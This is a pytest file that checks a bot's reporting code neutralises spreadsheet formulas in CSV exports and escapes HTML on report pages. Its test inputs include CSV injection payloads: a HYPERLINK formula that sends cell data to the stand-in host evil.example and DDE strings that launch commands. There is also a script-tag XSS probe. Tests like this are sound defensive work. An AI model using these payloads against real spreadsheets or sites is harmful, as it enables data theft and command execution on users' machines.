"""Attacks on a report: what stands in the journal is no formula for a spreadsheet and no markup for a browser."""

import csv
from datetime import date
from io import StringIO
from zoneinfo import ZoneInfo

import pytest

from bot.domain.reporting.formats import as_csv, neutral
from bot.domain.reporting.histories import Period
from bot.domain.reporting.page import page
from handlers.reporting import period_report
from tests.handlers.conftest import ERASE, Bench, bench

assert bench

MARCH = Period(date(2026, 3, 1), date(2026, 3, 31), ZoneInfo("UTC"))
ORDERS = (
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
)


async def opened_in(bench: Bench, language: str) -> None:
    """A ticket whose journal says that its language is this."""
    case = await bench.case(await bench.write(ERASE))
    async with bench.desk.store.transaction() as work:
        entry = await work.session.get(type((await bench.journal(case))[0]), 1)
        entry.detail = {**entry.detail, "language": language}
        work.session.add(entry)


@pytest.mark.parametrize("order", ORDERS)
async def test_t64_a_formula_in_the_journal_is_a_text_in_the_csv(bench, order):
    await opened_in(bench, order)
    written = as_csv(await period_report(bench.desk.store, MARCH))
    rows = list(csv.reader(StringIO(written, newline=""), strict=True))
    assert {len(each) for each in rows} == {8}
    (told,) = {name for *_, table, name, _figure, _value in rows if table == "languages"} - {"total"}
    assert told == f"'{order}"


@pytest.mark.parametrize("text", ["", "en", "0-7 days", "a=b", "it's", "über"])
def test_t64_what_is_no_formula_stays_as_it_is(text):
    assert neutral(text) == text


async def test_t64_markup_in_the_journal_is_a_text_on_the_page(bench):
    await opened_in(bench, "<script>alert(1)</script>")
    told = page(await period_report(bench.desk.store, MARCH))
    assert "<script" not in told
    assert "&lt;script&gt;" in told
